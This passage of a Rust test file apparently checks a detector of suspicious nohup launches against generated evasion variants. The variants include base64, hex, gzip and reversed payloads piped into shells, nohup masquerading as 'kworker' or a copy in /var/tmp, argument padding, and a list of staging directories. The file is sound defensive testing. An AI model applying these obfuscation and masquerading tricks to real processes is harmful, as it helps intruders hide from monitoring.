            c.layers[0].argv[1] = "-e".to_string();
        }
        c
    }
    vec![
        ("python3 -c os.system", |c| {
            through_shell(c, "python3", |s| format!("import os; os.system({s})"))
        }),
        ("perl -e system", |c| {
            through_shell(c, "perl", |s| format!("system({s}) == 0 or exit 1;"))
        }),
        ("python3 -c subprocess.Popen([...])", |c| {
            let list: Vec<String> = c.layers[0].argv.iter().map(|w| dq(w)).collect();
            let code = format!(
                "import subprocess; subprocess.Popen([{}], start_new_session=True)",
                list.join(", ")
            );
            let mut c = c;
            c.layers
                .insert(0, layer(words(&["python3", "-c", &code]), How::Child));
            c
        }),
    ]
}

/// The command as shell text the outer shell hands on as data, not encoded:
/// `eval '…'` (the same shell runs it), `(echo '…') | sh` (a group's output read
/// by a second shell), and a shell function's body or arguments. Both sides: nothing is hidden, so the verdict is the
/// command's own.
fn shell_data_wrappers() -> Vec<(&'static str, Rewrite)> {
    fn single_quoted(text: &str) -> String {
        format!("'{}'", text.replace('\'', r"'\''"))
    }
    vec![
        ("bash -c \"eval '…'\"", |mut c| {
            let text = format!("eval {}", single_quoted(&quote_argv(&c.layers[0].argv)));
            c.layers
                .insert(0, layer(words(&["bash", "-c", &text]), How::Child));
            c
        }),
        ("bash -c \"(echo '…') | sh\"", |mut c| {
            let text = format!(
                "(echo {}) | sh",
                single_quoted(&quote_argv(&c.layers[0].argv))
            );
            c.layers.insert(0, layer(words(&["sh"]), How::Child));
            c.layers
                .insert(0, layer(words(&["bash", "-c", &text]), How::Child));
            c
        }),
        // A function body runs where it is called; a wrapper function gets the
        // command as its arguments.
        ("bash -c \"f() { …; }; f\"", |mut c| {
            let text = format!("f() {{ {}; }}; f", quote_argv(&c.layers[0].argv));
            c.layers
                .insert(0, layer(words(&["bash", "-c", &text]), How::Child));
            c
        }),
        ("bash -c 'run() { \"$@\"; }; run …'", |mut c| {
            let text = format!("run() {{ \"$@\"; }}; run {}", quote_argv(&c.layers[0].argv));
            c.layers
                .insert(0, layer(words(&["bash", "-c", &text]), How::Child));
            c
        }),
        // A multiplexer's session runs the command's words (tmux 3 execs them
        // without a shell; one word would go to `sh -c`, which tests/shell_oracle.rs
        // runs for real).
        ("tmux new -d …", |mut c| {
            let mut argv = words(&["tmux", "new", "-d"]);
            argv.extend(c.layers[0].argv.iter().cloned());
            c.layers.insert(0, layer(argv, How::Child));
            c
        }),
        ("screen -dmS s …", |mut c| {
            let mut argv = words(&["screen", "-dmS", "s"]);
            argv.extend(c.layers[0].argv.iter().cloned());
            c.layers.insert(0, layer(argv, How::Child));
            c
        }),
    ]
}

/// The command as a literal that a shell decodes and runs (`echo B64 | base64 -d |
/// sh`): the encoding hides every word, the process tree still shows the decoder
/// and the shell reading it. Malicious scenarios only: decoding a nohup launch into
/// a shell is itself an indicator (`encoded_payload`), so a benign launch wrapped
/// this way is rightly raised.
fn encoded_wrappers() -> Vec<(&'static str, Rewrite)> {
    /// `outer` runs `text`; the payload's first layer is started by a shell
    /// (`reader`) that `outer` forks beside the decoders (`feeders`), unless
    /// `reader` is empty (the outer shell runs it itself, as `eval` does).
    fn through(c: Cmd, outer: &str, text: String, reader: &str, feeders: &[&[&str]]) -> Cmd {
        let mut c = c;
        let feeders: Vec<Vec<String>> = feeders.iter().map(|f| words(f)).collect();
        if reader.is_empty() {
            c.layers[0].siblings.extend(feeders);
        } else {
            let mut shell = layer(words(&[reader]), How::Child);
            shell.siblings = feeders;
            c.layers.insert(0, shell);
        }
        c.layers
            .insert(0, layer(words(&[outer, "-c", &text]), How::Child));
        c
    }
    fn script(c: &Cmd) -> String {
        format!("{} >/dev/null 2>&1 &", quote_argv(&c.layers[0].argv))
    }
    vec![
        ("echo B64 | base64 -d | sh", |c| {
            let text = format!("echo {} | base64 -d | sh", BASE64.encode(script(&c)));
            through(c, "sh", text, "sh", &[&["base64", "-d"]])
        }),
        ("base64 --decode <<< B64 | bash", |c| {
            let text = format!("base64 --decode <<< '{}' | bash", BASE64.encode(script(&c)));
            through(c, "bash", text, "bash", &[&["base64", "--decode"]])
        }),
        ("echo HEX | xxd -r -p | bash", |c| {
            let hex: String = script(&c).bytes().map(|b| format!("{b:02x}")).collect();
            let text = format!("echo {hex} | xxd -r -p | bash");
            through(c, "bash", text, "bash", &[&["xxd", "-r", "-p"]])
        }),
        ("echo GZIP+B64 | base64 -d | gunzip | bash", |c| {
            let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
            gz.write_all(script(&c).as_bytes()).unwrap();
            let b64 = BASE64.encode(gz.finish().unwrap());
            let text = format!("echo {b64} | base64 -d | gunzip | bash");
            through(c, "bash", text, "bash", &[&["base64", "-d"], &["gunzip"]])
        }),
        ("printf '\\xNN' | sh", |c| {
            let esc: String = script(&c).bytes().map(|b| format!("\\x{b:02x}")).collect();
            through(c, "sh", format!("printf '{esc}' | sh"), "sh", &[])
        }),
        ("echo REVERSED | rev | sh", |c| {
            let reversed: String = script(&c).chars().rev().collect();
            let text = format!("echo '{}' | rev | sh", reversed.replace('\'', r"'\''"));
            through(c, "sh", text, "sh", &[&["rev"]])
        }),
        ("eval \"$(echo B64 | base64 -d)\"", |c| {
            let text = format!("eval \"$(echo {} | base64 -d)\"", BASE64.encode(script(&c)));
            through(c, "bash", text, "", &[&["base64", "-d"]])
        }),
        ("bash -c \"$(echo B64 | base64 -d)\"", |c| {
            // The output is split into words, not parsed: no redirections in it.
            let plain = quote_argv(&c.layers[0].argv);
            let text = format!("$(echo {} | base64 -d)", BASE64.encode(plain));
            through(c, "bash", text, "", &[&["base64", "-d"]])
        }),
    ]
}

/// Wrappers nohup runs (point 2: `nohup nice -n 19 X`).
fn inner_wrappers() -> Vec<(&'static str, Rewrite)> {
    vec![
        ("nice", |c| {
            c.argv_wrap(&["nice", "-n", "19"], &[], How::InPlace)
        }),
        ("stdbuf", |c| {
            c.argv_wrap(&["stdbuf", "-o0"], &[], How::InPlace)
        }),
        ("timeout", |c| {
            c.argv_wrap(&["timeout", "-s", "KILL", "86400"], &[], How::Child)
        }),
        ("setsid", |c| c.argv_wrap(&["setsid"], &[], How::InPlace)),
        ("env", |c| {
            c.argv_wrap(&["env", "-i", "PATH=/usr/bin"], &[], How::InPlace)
        }),
        ("ionice", |c| {
            c.argv_wrap(&["ionice", "-c3"], &[], How::InPlace)
        }),
        ("taskset", |c| {
            c.argv_wrap(&["taskset", "-c", "0"], &[], How::InPlace)
        }),
        ("chrt", |c| {
            c.argv_wrap(&["chrt", "-i", "0"], &[], How::InPlace)
        }),
        ("sh -c", |c| {
            c.text_wrap(&["sh", "-c"], "exec ", "", How::InPlace)
        }),
    ]
}

/// Applies `rewrite` under the nohup layer of a command (`nohup W X`).
fn under_nohup(mut c: Cmd, rewrite: Rewrite) -> Option<Cmd> {
    let i = c.layers.iter().position(|l| l.argv[0] == "nohup")?;
    let below = Cmd {
        layers: c.layers.split_off(i + 1),
    };
    let wrapped = rewrite(below);
    let nohup_layer = &mut c.layers[i];
    nohup_layer.argv.truncate(1);
    nohup_layer
        .argv
        .extend(wrapped.layers[0].argv.iter().cloned());
    c.layers.extend(wrapped.layers);
    Some(c)
}

/// A change of the nohup layer (another name, another image).
type Rename = fn(&mut Layer);

/// nohup under another name (point 1).
fn nohup_forms() -> Vec<(&'static str, Rename)> {
    vec![
        ("/usr/bin/nohup", |l| l.argv[0] = "/usr/bin/nohup".into()),
        ("busybox nohup", |l| {
            l.argv.insert(0, "busybox".into());
        }),
        ("toybox nohup", |l| {
            l.argv.insert(0, "toybox".into());
        }),
        ("symlink /tmp/.n", |l| {
            l.argv[0] = "/tmp/.n".into();
            l.exe = Some("/usr/bin/nohup".into());
        }),
        ("exec -a kworker", |l| {
            l.argv[0] = "kworker".into();
            l.exe = Some("/usr/bin/nohup".into());
        }),
        ("copy /var/tmp/hup", |l| {
            l.argv[0] = "/var/tmp/hup".into();
            l.exe = Some("/var/tmp/hup".into());
        }),
    ]
}

/// Staging areas a payload is moved to (point 3; each is in rules/nohup.toml).
const STAGING: [&str; 14] = [
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/run/lock/",
    "/var/lock/",
    "/var/crash/",
    "/dev/mqueue/",
    "/run/user/1000/",
    "/var/lib/php/sessions/",
    "/var/www/html/wp-content/uploads/",
    "/home/alice/.cache/.fontconfig/",
    "/home/alice/.config/.sys/",
    "/run/shm/",
    "/var/spool/samba/",
];

/// A payload path moved to `dir` (keeping its file name).
fn moved(c: &Cmd, from: &str, dir: &str) -> Cmd {
    let name = from.rsplit('/').next().unwrap();
    let to = format!("{dir}{name}");
    let mut c = c.clone();
    for l in &mut c.layers {
        for w in &mut l.argv {
            *w = w.replace(from, &to);
        }
    }
    c
}

/// A variant: a name and the command it runs.
struct Variant {
    name: String,
    cmd: Cmd,
    prep: Vec<Vec<String>>,
}

fn variants(s: &Scenario) -> Vec<Variant> {
    let base_prep: Vec<Vec<String>> = s.prep.iter().map(|p| words(p)).collect();
    let v = |name: String, cmd: Cmd| Variant {
        name,
        cmd,
        prep: base_prep.clone(),
    };
    let mut out = vec![v("as is".into(), s.cmd.clone())];
    // A pipeline's members are the shell's children: a service manager cannot start
    // one of them, and an argument added to a shell reading stdin would be a script.
    let piped = s.cmd.layers.iter().any(|l| !l.siblings.is_empty());
    let outer: Vec<(&str, Rewrite)> = outer_wrappers()
        .into_iter()
        .filter(|(name, _)| {
            !(piped && matches!(*name, "systemd-run" | "start-stop-daemon" | "daemonize"))
        })
        .collect();
    let inner = inner_wrappers();
    for (name, w) in &outer {
        out.push(v(format!("{name} …"), w(s.cmd.clone())));
    }
    if s.expect.is_some() {
        let sudo = outer
            .iter()
            .find(|(n, _)| *n == "sudo -u")
            .expect("sudo -u")
            .1;
        for (name, w) in encoded_wrappers() {
            out.push(v(name.to_string(), w(s.cmd.clone())));
            // And behind an argv wrapper (`sudo -u root -E sh -c "echo … | sh"`).
            out.push(v(format!("sudo {name}"), sudo(w(s.cmd.clone()))));
        }
    }
    for (name, w) in interpreter_wrappers()
        .into_iter()
        .chain(shell_data_wrappers())
    {
        out.push(v(name.to_string(), w(s.cmd.clone())));
    }
    for (name, w) in &inner {
        if let Some(c) = under_nohup(s.cmd.clone(), *w) {
            out.push(v(format!("nohup {name} …"), c));
        }
    }
    // Two deep: each outer wrapper around the next one, and around each inner one.
    for (i, (a, wa)) in outer.iter().enumerate() {
        let (b, wb) = &outer[(i + 7) % outer.len()];
        out.push(v(format!("{a} {b} …"), wa(wb(s.cmd.clone()))));
        let (c, wc) = &inner[i % inner.len()];
        if let Some(cmd) = under_nohup(s.cmd.clone(), *wc) {
            out.push(v(format!("{a} … nohup {c} …"), wa(cmd)));
        }
    }
    // The kernel's split of a long argument (> 7.5 KB): padding after the payload.
    let pad = "A".repeat(9000);
    let mut split = s.cmd.clone();
    if split.payload().argv.len() == 1 && s.expect != Some(DetectionType::SignalMask) && !piped {
        for l in &mut split.layers {
            l.argv.push(pad.clone());
        }
        out.push(v("split argument".into(), split));
    }
    out.push(v(
        "split sh -c string".into(),
        s.cmd
            .clone()
            .text_wrap(&["sh", "-c"], &format!(": {pad}; "), " &", How::Child),
    ));
    if s.expect == Some(DetectionType::Nohup) {
        for (name, form) in nohup_forms() {
            let mut c = s.cmd.clone();
            let Some(i) = c.layers.iter().position(|l| l.argv[0] == "nohup") else {
                continue;
            };
            form(&mut c.layers[i]);
            let mut var = v(format!("nohup as {name}"), c);
            if name.starts_with("copy") {
                var.prep
                    .push(words(&["cp", "/usr/bin/nohup", "/var/tmp/hup"]));
            }
            out.push(var);
        }
        if let Some(from) = s.movable {
            for dir in STAGING {
                let mut var = v(format!("payload in {dir}"), moved(&s.cmd, from, dir));
                for p in &mut var.prep {
                    for w in p.iter_mut() {
                        *w = w.replace(from, &format!("{dir}{}", from.rsplit('/').next().unwrap()));
                    }
                }
                out.push(var);
            }
        }
    }
    out
}

/// Runs one variant in one shape: the findings.
fn findings(s: &Scenario, var: &Variant, shape: Shape) -> (String, Vec<Finding>) {
    let mut sim = Sim::new(s.uid, s.cwd);
    for p in &var.prep {
        let p: Vec<&str> = p.iter().map(String::as_str).collect();
        sim.prep(&p);
    }
    let pid = sim.run(&var.cmd);
    if let Some(saddr) = s.binds {
        let exe = image_of(&var.cmd.payload().argv[0]);
        sim.bind(pid, saddr, &exe);
    }
    let log = render(shape, &sim.trace);
    let f = hunt(&log);
    (log, f)
}

fn describe(f: &Finding) -> String {
    format!(
        "{} {} score {} [{}] exec_cmd={:?} target={:?} line {:?}",
        f.detection_type.as_str(),
        f.severity,
        f.suspicion_score,
        f.indicators.join(","),
        f.exec_cmd,
        f.nohup_target,
        f.source.position
    )
}

/// Runs every variant of every scenario in every shape; returns the failures.
fn check(scenarios: &[Scenario]) -> (usize, Vec<String>) {
    let mut runs = 0;
    let mut failures = Vec::new();
    for s in scenarios {
        for var in variants(s) {
            for shape in SHAPES {
                runs += 1;
                let (log, found) = findings(s, &var, shape);
                let what = format!("[{}] {} / {:?}", s.id, var.name, shape);
                let verdict = match s.expect {
                    Some(kind) => {
                        let of_kind: Vec<&Finding> =
                            found.iter().filter(|f| f.detection_type == kind).collect();
                        if of_kind.len() != 1 {
                            Err(format!("{} {} findings", of_kind.len(), kind.as_str()))
                        } else if of_kind[0].severity < Severity::Medium {
                            Err(format!("below medium: {}", describe(of_kind[0])))
                        } else {
                            Ok(())
                        }
                    }
                    None => match found.iter().find(|f| f.severity > Severity::Low) {
                        Some(f) => Err(format!("raised above low: {}", describe(f))),
                        None => Ok(()),
                    },
                };
                if let Err(why) = verdict {
                    let all: Vec<String> = found.iter().map(describe).collect();
                    let excerpt: String = log.chars().take(1500).collect();
                    failures.push(format!(
                        "{what}: {why}\n    all findings: {all:#?}\n    log excerpt:\n{excerpt}"
                    ));
                }
            }
        }
    }
    (runs, failures)
}

fn report(kind: &str, runs: usize, failures: &[String]) {
    if !failures.is_empty() {
        let names: Vec<&str> = failures
            .iter()
            .map(|f| f.lines().next().unwrap_or(""))
            .collect();
        panic!(
            "{kind}: {} of {runs} variant runs changed verdict:\n{}\n\nfirst failure in full:\n{}",
            failures.len(),
            names.join("\n"),
            failures[0]
        );
    }
    eprintln!("{kind}: {runs} variant runs, all kept their verdict");
}

#[test]
fn malicious_scenarios_keep_their_verdict_under_every_rewriting() {
    let (runs, failures) = check(&malicious());
    assert!(runs > 2000, "the generator must produce variants: {runs}");
    report("malicious", runs, &failures);
}

#[test]
fn benign_scenarios_stay_low_under_the_same_wrappings() {
    let (runs, failures) = check(&benign());
    assert!(runs > 1000, "the generator must produce variants: {runs}");
    report("benign", runs, &failures);
}

/// The renderers themselves: a variant's exec is read back by each parser with the
/// argv the generator meant (hex, split arguments, Sysmon's space-joined CommandLine
/// kept byte-true), so a failure above is the detector's and not the generator's.
#[test]
fn every_shape_reads_back_as_the_generated_execs() {
    let mut sim = Sim::new(0, "/root");
    let text = format!("nohup /tmp/x \"q\" & {}", "B".repeat(8000));
    let argv = words(&["sh", "-c", &text]);
    sim.exec(4100, SHELL_PID, &argv, None);
    for shape in SHAPES {
        let log = render(shape, &sim.trace);
        let found = hunt(&log);
        let nohup: Vec<&Finding> = found
            .iter()
            .filter(|f| f.detection_type == DetectionType::Nohup)
            .collect();
        assert_eq!(nohup.len(), 1, "{shape:?}: {found:#?}");
        assert_eq!(nohup[0].nohup_target, "/tmp/x", "{shape:?}");
        assert!(
            nohup[0].command_line.contains("\"q\"")
                && nohup[0].command_line.contains(&"B".repeat(8000)),
            "{shape:?}: command line not kept whole: {:?}",
            &nohup[0].command_line[..80.min(nohup[0].command_line.len())]
        );
        if shape == Shape::SysmonLinux {
            assert_eq!(
                nohup[0].command_line,
                argv.join(" "),
                "Sysmon's CommandLine is kept byte-true"
            );
        }
    }
}
